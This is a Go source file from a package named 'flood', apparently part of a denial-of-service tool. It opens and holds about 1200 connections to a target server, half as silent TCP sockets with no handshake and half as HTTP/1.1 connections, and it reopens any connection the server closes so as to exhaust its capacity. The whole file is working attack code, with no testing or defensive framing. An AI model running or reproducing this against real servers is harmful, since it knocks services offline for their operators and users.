package flood

import (
	"context"
	"io"
	"net"
	"time"
)

// held is how many connections are kept at once, if the server lets them: more than one address
// should have.
const held = 1200

// Connections opens connections and keeps them, every other one without a handshake. One that the
// server closes is opened again.
func Connections(ctx context.Context, t Target) int64 { return keep(ctx, t, held) }

func keep(ctx context.Context, t Target, many int) int64 {
	turn := make(chan bool, many)
	for n := range many {
		turn <- n%2 == 0
	}
	return again(ctx, many, time.Second, func(ctx context.Context) {
		silent := <-turn
		defer func() { turn <- silent }()
		connection, err := t.open(ctx, silent)
		if err != nil {
			return
		}
		defer func() { _ = connection.Close() }()
		defer context.AfterFunc(ctx, func() { _ = connection.Close() })()
		_, _ = io.Copy(io.Discard, connection) // until one of both closes it
	})
}

func (t Target) open(ctx context.Context, silent bool) (net.Conn, error) {
	if silent {
		return t.Dial(ctx, "tcp", t.Address)
	}
	connection, err := t.connect(ctx, "http/1.1")
	if err != nil {
		return nil, err
	}
	return connection, nil
}
